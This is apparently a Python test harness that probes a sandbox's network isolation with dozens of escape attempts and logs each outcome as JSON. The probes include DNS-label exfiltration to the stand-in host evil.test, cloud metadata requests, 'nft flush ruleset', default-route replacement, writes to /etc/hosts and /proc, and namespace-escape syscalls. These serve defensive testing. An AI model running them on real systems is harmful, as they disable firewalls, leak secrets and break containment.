"""Try every way out that comes to mind; print what became of each, as JSON lines.

Runs inside a sandbox with the system's Python and nothing else.  Arguments: the outside server's
IPv4 and IPv6 address, its port, the path and the abstract name of its UNIX sockets, a file of the
gateway's, and a name that is allowed.  Without a sandbox most of them get through: the control.
"""

import ctypes
import json
import os
import socket
import ssl
import struct
import sys
import time

FOUR, SIX, PORT, UNIX, ABSTRACT, STATE, ALLOWED = sys.argv[1:8]
PORT = int(PORT)
WORD = b"escaped"
libc = ctypes.CDLL(None, use_errno=True)
ATTEMPTS = []


def attempt(kind):
    """Register a function as one way out; ``kind`` says what has to be left behind by it."""

    def register(function):
        ATTEMPTS.append((function.__name__, kind, function))
        return function

    return register


def stream(address, port, data=WORD, family=socket.AF_INET, protocol=0):
    """Send data to a TCP server and return what it answers."""
    with socket.socket(family, socket.SOCK_STREAM, protocol) as conn:
        conn.settimeout(3)
        conn.connect((address, port))
        conn.sendall(data)
        return conn.recv(100)


def datagram(address, port, family=socket.AF_INET, protocol=0, data=WORD):
    """Send a datagram and return the answer."""
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as conn:
        conn.settimeout(0.5)
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        conn.sendto(data, (address, port))
        return conn.recv(100)


def tls(address, name, port=PORT):
    """Return what a TLS server at an address answers under a name."""
    context = ssl._create_unverified_context()
    with socket.create_connection((address, port), 3) as conn:
        with context.wrap_socket(conn, server_hostname=name) as inner:
            inner.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            return inner.recv(100)


def call(number, *arguments):
    """Make a system call; raise OSError when it is refused."""
    result = libc.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return b"escaped: the call went through"


def http(host, version="1.1", target="/"):
    return f"GET {target} HTTP/{version}\r\nHost: {host}\r\n\r\n".encode()


# TCP: what is redirected and refused by its first bytes.
for label, data in {
    "plain": WORD,
    "ssh": b"SSH-2.0-x\r\n",
    "socks4": b"\x04\x01\x00\x50\x01\x02\x03\x04\x00",
    "socks5": b"\x05\x01\x00",
    "http2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "smtp": b"EHLO x\r\n",
    "nothing_but_zeros": bytes(100),
    "http_foreign_host": http("evil.test"),
    "http_no_host": b"GET / HTTP/1.0\r\n\r\n",
    "http_absolute": http("evil.test", target="http://evil.test/"),
    "http_connect": b"CONNECT %s:443 HTTP/1.1\r\nHost: x\r\n\r\n" % FOUR.encode(),
    "http_address_host": http(FOUR),
    "lower_case_method": b"get / HTTP/1.1\r\nHost: x\r\n\r\n",
    "broken_hello": b"\x16\x03\x01\x00\x05hello",
}.items():  # fmt: skip

    def one(data=data):
        return stream(FOUR, PORT, data)

    one.__name__ = f"tcp_{label}"
    attempt("record")(one)

for port in (22, 25, 80, 443, 853, 5228, 6667, 8080, 65535):

    def one(port=port):
        return stream(FOUR, port)

    one.__name__ = f"tcp_port_{port}"
    attempt("record")(one)


@attempt("record")
def tcp_six():
    return stream(SIX, PORT, family=socket.AF_INET6)


@attempt("record")
def tcp_mapped():
    return stream(f"::ffff:{FOUR}", PORT, family=socket.AF_INET6)


@attempt("record")
def tcp_multipath():
    return stream(FOUR, PORT, protocol=262)


@attempt("")  # where fast open is off, the kernel refuses it itself
def tcp_fast_open():
    with socket.socket() as conn:
        conn.settimeout(3)
        conn.sendto(WORD, 0x20000000, (FOUR, PORT))
        return conn.recv(100)


@attempt("record")
def tcp_metadata():
    return stream("169.254.169.254", 80, http("169.254.169.254"))


@attempt("record")
def tcp_bound_source():
    with socket.socket() as conn:
        conn.settimeout(3)
        conn.bind(("", 443))
        conn.connect((FOUR, PORT))
        conn.sendall(WORD)
        return conn.recv(100)


@attempt("")
def tcp_host_loopback():
    return stream("127.0.0.1", PORT)


@attempt("")
def tcp_host_loopback_six():
    return stream("::1", PORT, family=socket.AF_INET6)


@attempt("direct")
def tcp_gateways_own_port():
    return stream("127.0.0.1", 8444, http(ALLOWED))


@attempt("record")
def tls_without_name():
    return tls(FOUR, None)


@attempt("record")
def tls_foreign_name():
    return tls(FOUR, "evil.test")


@attempt("")  # goes to the allowed host itself, not to the server
def tls_forged_name():
    return tls(FOUR, ALLOWED)


@attempt("")
def http_forged_host():
    return stream(FOUR, PORT, http(ALLOWED))


# Names.
@attempt("record")
def dns_denied_name():
    return socket.getaddrinfo("evil.test", 443) and b"escaped: resolved"


@attempt("record")
def dns_data_in_labels():
    return socket.getaddrinfo("c2VjcmV0.exfil.evil.test", 443) and b"escaped: resolved"


@attempt("")
def dns_over_udp_to_the_server():
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\x04evil\x04test\0\0\x01\0\x01"
    answer = datagram(FOUR, 53, data=query)
    return b"" if answer[3] & 15 == 3 else b"escaped: " + answer


@attempt("")
def dns_over_tcp_to_the_server():
    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\x04evil\x04test\0\0\x01\0\x01"
    answer = stream("8.8.8.8", 53, struct.pack("!H", len(query)) + query)
    return b"" if answer[5] & 15 == 3 else b"escaped: " + answer


# Datagrams.
@attempt("udp")
def udp_plain():
    return datagram(FOUR, PORT)


@attempt("udp443")
def udp_quic():
    return datagram(FOUR, 443)


@attempt("udp")
def udp_six():
    return datagram(SIX, PORT, socket.AF_INET6)


@attempt("udp443")
def udp_quic_six():
    return datagram(SIX, 443, socket.AF_INET6)


@attempt("udp")
def udp_mapped():
    return datagram(f"::ffff:{FOUR}", PORT, socket.AF_INET6)


@attempt("udp")
def udp_broadcast():
    return datagram("255.255.255.255", PORT)


@attempt("udp")
def udp_multicast():
    return datagram("224.0.0.251", 5353)


@attempt("udp")
def udp_ntp():
    return datagram(FOUR, 123)


@attempt("")
def udp_lite():
    return datagram(FOUR, PORT, protocol=136)


@attempt("")
def udp_host_loopback():
    return datagram("127.0.0.1", PORT)


# Other protocols and families.
@attempt("")
def icmp_socket():
    return datagram(FOUR, 0, protocol=1, data=b"\x08\0\0\0\0\0\0\0")


def raw(family, kind, protocol, target):
    with socket.socket(family, kind, protocol) as conn:
        conn.settimeout(0.5)
        conn.sendto(b"\x08\0\xf7\xff\0\0\0\0", target)
        return b"escaped: sent"


for name, family, kind, protocol, target in (
    ("raw_icmp", 2, 3, 1, (FOUR, 0)),
    ("raw_ip", 2, 3, 255, (FOUR, 0)),
    ("raw_tcp", 2, 3, 6, (FOUR, 0)),
    ("raw_six", 10, 3, 58, (SIX, 0)),
    ("packet", 17, 3, 0x0300, ("lo", 0)),
    ("sctp", 2, 1, 132, (FOUR, PORT)),
    ("dccp", 2, 6, 33, (FOUR, PORT)),
    ("vsock", 40, 1, 0, (2, PORT)),
    ("bluetooth", 31, 1, 3, ("00:00:00:00:00:00", 1)),
    ("can", 29, 3, 1, ("lo",)),
    ("alg", 38, 5, 0, ("hash", "sha1")),
    ("xdp", 44, 3, 0, ("lo", 0)),
    ("netfilter", 16, 3, 12, (0, 0)),
):

    def one(family=family, kind=kind, protocol=protocol, target=target):
        return raw(family, kind, protocol, target)

    one.__name__ = f"family_{name}"
    attempt("")(one)


@attempt("")
def unix_path():
    with socket.socket(socket.AF_UNIX) as conn:
        conn.settimeout(1)
        conn.connect(UNIX)
        return conn.recv(100)


@attempt("")
def unix_abstract():
    with socket.socket(socket.AF_UNIX) as conn:
        conn.settimeout(1)
        conn.connect("\0" + ABSTRACT)
        return conn.recv(100)


@attempt("")
def unix_through_init():
    with socket.socket(socket.AF_UNIX) as conn:
        conn.settimeout(1)
        conn.connect("/proc/1/root" + UNIX)
        return conn.recv(100)


# The walls themselves.
NEW_NET, NEW_USER, NEW_NS = 0x40000000, 0x10000000, 0x20000
X86 = os.uname().machine == "x86_64"
for name, numbers, arguments in (
    ("unshare_user", (272, 97), (NEW_USER,)),
    ("unshare_net", (272, 97), (NEW_NET,)),
    ("unshare_mount", (272, 97), (NEW_NS,)),
    ("mount", (165, 40), (b"x", b"/tmp", b"tmpfs", 0, None)),
    ("bpf", (321, 280), (0, None, 0)),
    ("io_uring", (425, 425), (1, None)),
    ("keyctl", (250, 219), (0, -3, 1)),
    ("userfaultfd", (323, 282), (1,)),
    ("perf_event", (298, 241), (None, 0, -1, -1, 0)),
    ("open_by_handle", (304, 265), (-1, None, 0)),
    ("kexec", (246, 104), (0, 0, None, 0)),
):

    def one(number=numbers[0 if X86 else 1], arguments=arguments):
        return call(number, *arguments)

    one.__name__ = f"call_{name}"
    attempt("")(one)


@attempt("")
def setns_of_init():
    with open("/proc/1/ns/net") as file:
        return call(308 if X86 else 268, file.fileno(), 0)


@attempt("")
def packet_filter():
    return b"" if os.system("nft flush ruleset >/dev/null 2>&1") else b"escaped: flushed"


@attempt("")
def route():
    words = "ip route replace default via 192.0.0.9 dev lo >/dev/null 2>&1"
    return b"" if os.system(words) else b"escaped: routed"


@attempt("")
def kernel_settings():
    with open("/proc/sys/net/ipv4/ip_forward", "w") as file:
        file.write("1")
    return b"escaped: written"


@attempt("")
def tun_device():
    os.close(os.open("/dev/net/tun", os.O_RDWR))
    return b"escaped: opened"


@attempt("")
def system_file():
    with open("/etc/hosts", "a") as file:
        file.write("\n")
    return b"escaped: written"


@attempt("")
def gateways_file():
    with open(STATE, "rb") as file:
        return b"escaped: " + file.read(10)


@attempt("")
def inherited_sockets():
    for name in os.listdir("/proc/self/fd"):
        if int(name) > 2:
            try:
                if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                    return b"escaped: a socket"
            except OSError:
                continue
    return b""


def main():
    """Make every attempt, each in a time of its own."""
    for name, kind, function in ATTEMPTS:
        began = time.monotonic()
        try:
            answer = function() or b""
            said = "reached" if b"escaped" in answer else f"answered {answer[:40]!r}"
        except Exception as error:
            said = f"{type(error).__name__}: {error}"[:100]
        seconds = round(time.monotonic() - began, 3)
        print(
            json.dumps({"name": name, "kind": kind, "said": said, "seconds": seconds}), flush=True
        )


main()
